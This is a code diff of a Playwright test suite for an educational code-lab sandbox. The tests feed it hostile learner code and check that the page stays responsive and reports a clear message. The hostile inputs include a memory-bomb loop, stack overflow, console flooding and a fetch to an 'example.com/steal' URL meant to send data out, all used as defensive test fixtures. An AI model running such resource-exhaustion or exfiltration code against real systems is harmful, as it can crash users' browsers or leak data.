@@ -3,6 +3,9 @@
  * checks), get a clear message, leave the page answering clicks within 200 ms while it runs, and
  * leave the sandbox ready for the next honest run.
  */
+import { CRASHED_MESSAGE } from '../lib/sandbox/run-collector';
+import type { Page } from '@playwright/test';
+import { CrashTolerantDriver, type RolePath } from './crash-tolerant-driver';
 import { expect, test } from './sandbox-fixtures';
 import { exerciseRegion, honestRunWorks, measureClickResponse, openCodeLabWithDraft, runStatus } from './sandbox-helpers';
 
@@ -15,8 +18,6 @@ interface HostileCase {
   readonly long?: boolean;
   /** Where the message appears (default: the error alert). */
   readonly where?: 'alert' | 'log';
-  /** A case the sandbox does not contain yet, with the reason: skipped and reported as fixme. */
-  readonly knownGap?: string;
 }
 
 const CASES: HostileCase[] = [
@@ -27,21 +28,6 @@ const CASES: HostileCase[] = [
     code: 'function down(n: number): number {\n  return down(n + 1) + 1;\n}\ndown(0);',
     // V8 reports the overflow at the call (line 2) or at the function's entry (line 1).
     message: /^Line [12]: RangeError: Maximum call stack size exceeded \(a function keeps calling itself/,
-  },
-  {
-    // On this machine the loop reaches about 3 GB in 3 s and the time limit stops it. Left running
-    // (about 10 s more here), Chromium 156 does not fire the worker's error event: the worker's
-    // out-of-memory crash takes the whole tab down, which the page cannot catch. The time limit is
-    // the defence; a process boundary (a sandboxed iframe) would be the real fix.
-    name: 'memory bomb',
-    code: 'const hoard: number[][] = [];\nwhile (true) hoard.push(new Array(4_000_000).fill(Math.random()));',
-    message: /sandbox crashed, most likely because your code used too much memory|Stopped after 3\.0 s|Line 2: RangeError/,
-    long: true,
-    // KNOWN GAP: a dedicated worker shares the tab's renderer process. On a fast machine this loop
-    // reaches V8's heap limit (about 4 GB) before the 3 s time limit, and Chromium then ends the
-    // whole tab, not just the worker. Containing it needs a process boundary (the runner inside a
-    // sandboxed, cross-origin iframe); until then the case is recorded here and skipped.
-    knownGap: 'a memory bomb can crash the tab before the time limit: needs process isolation',
   },
   { name: 'console flood', code: "for (let i = 0; i < 1_000_000; i++) console.log('flood', i);", message: /output truncated/, where: 'log' },
   { name: 'fetch', code: "await fetch('https://example.com/steal?k=1');", message: /^Line 1: Error: fetch is not available in the code lab: the sandbox has no network/ },
@@ -85,7 +71,6 @@ const CASES: HostileCase[] = [
 test.describe('hostile learner code', () => {
   for (const c of CASES) {
     test(c.name, async ({ page }, testInfo) => {
-      test.fixme(Boolean(c.knownGap), c.knownGap);
       await openCodeLabWithDraft(page, c.code);
       await page.getByRole('button', { name: 'Run', exact: true }).click();
       if (c.long) {
@@ -170,5 +155,79 @@ test.describe('hostile learner code', () => {
     await expect(exerciseRegion(page).getByRole('alert')).toHaveText('Stopped: you pressed Stop.');
     await expect(runStatus(page)).toHaveText(/^Stopped after/);
     await honestRunWorks(page);
+  });
+
+  /**
+   * Out-of-memory crashes. The learner's worker lives in the sandbox frame's renderer process, not
+   * the tab's, so a crash ends only that process; the page notices the frame has gone silent and
+   * says so. Playwright reports an out-of-process iframe's crash as the page's (see
+   * crash-tolerant-driver.ts), so after Run these tests drive the page through its accessibility
+   * tree over CDP.
+   */
+  test.describe('crashes', () => {
+    const REGION = ['region', 'Open Bob’s message'] as const;
+    const STATUS: RolePath = [REGION, ['group', 'Run controls'], ['status']];
+    const ALERT: RolePath = [REGION, ['alert']];
+
+    async function runAndWatch(page: Page, code: string) {
+      await openCodeLabWithDraft(page, code);
+      const driver = await CrashTolerantDriver.attach(page);
+      let playwrightSawCrash = false;
+      page.on('crash', () => (playwrightSawCrash = true));
+      await page.getByRole('button', { name: 'Run', exact: true }).click();
+      await driver.waitForText(STATUS, /^Running…$/);
+      return { driver, crashed: () => playwrightSawCrash };
+    }
+
+    /** pointerdown → toggle of "What your code can use", measured in the page, through the driver. */
+    async function clickResponse(driver: CrashTolerantDriver): Promise<number> {
+      await driver.evaluate(`(() => {
+        const details = document.querySelector('details');
+        window.__clickProbe = new Promise((resolve) => {
+          let downAt = 0;
+          details.querySelector('summary').addEventListener('pointerdown', (e) => (downAt = e.timeStamp), { once: true });
+          details.addEventListener('toggle', () => resolve(performance.now() - downAt), { once: true });
+        });
+      })()`);
+      await driver.click([['DisclosureTriangle', 'What your code can use']]);
+      return driver.evaluate<number>('window.__clickProbe');
+    }
+
+    /** Reset to starter, Run, and the starter's output and first check appear: the sandbox works again. */
+    async function honestRunThroughDriver(driver: CrashTolerantDriver): Promise<void> {
+      await driver.click([REGION, ['button', 'Reset to starter']]);
+      await driver.click([REGION, ['button', 'Run']]);
+      await driver.waitForText(STATUS, /^Finished in \d+/, 15_000);
+      await driver.waitForText([REGION, ['log']], /Bob sent 67 bytes of ciphertext/);
+      await driver.waitForText([REGION, ['list', 'Checks']], /passed: The program runs to the end/);
+    }
+
+    test('a sandbox process that dies mid-run is reported as a crash; the page and the next run are fine', async ({ page }) => {
+      const { driver, crashed } = await runAndWatch(page, 'while (true) {}');
+      // Kill the frame's renderer process, as running out of memory does (deterministically: a
+      // real memory bomb's timing depends on the machine, see the next test).
+      const sandbox = page.frames().find((frame) => frame.url().endsWith('/sandbox/frame.html'));
+      expect(sandbox, 'the sandbox frame').toBeDefined();
+      const frameSession = await page.context().newCDPSession(sandbox!);
+      void frameSession.send('Page.crash').catch(() => undefined);
+
+      expect(await clickResponse(driver), 'pointerdown → toggle while the sandbox is down').toBeLessThan(200);
+      expect(await driver.waitForText(ALERT, /crashed/)).toBe(CRASHED_MESSAGE);
+      expect(await driver.text(STATUS)).toMatch(/^Failed after/);
+      expect(crashed(), 'Playwright saw the frame crash (and blamed the page)').toBe(true);
+      await honestRunThroughDriver(driver);
+    });
+
+    test('memory bomb: stopped at the time limit, or its crash contained in the sandbox process', async ({ page }, testInfo) => {
+      const { driver, crashed } = await runAndWatch(
+        page,
+        'const hoard: number[][] = [];\nwhile (true) hoard.push(new Array(4_000_000).fill(Math.random()));',
+      );
+      await new Promise((resolve) => setTimeout(resolve, 400));
+      expect(await clickResponse(driver), 'pointerdown → toggle while the bomb grows').toBeLessThan(200);
+      const message = await driver.waitForText(ALERT, /sandbox crashed|Stopped after 3\.0 s|RangeError/, 15_000);
+      testInfo.annotations.push({ type: 'memory bomb', description: `${crashed() ? 'the sandbox process crashed' : 'no crash'}: ${message}` });
+      await honestRunThroughDriver(driver);
+    });
   });
 });
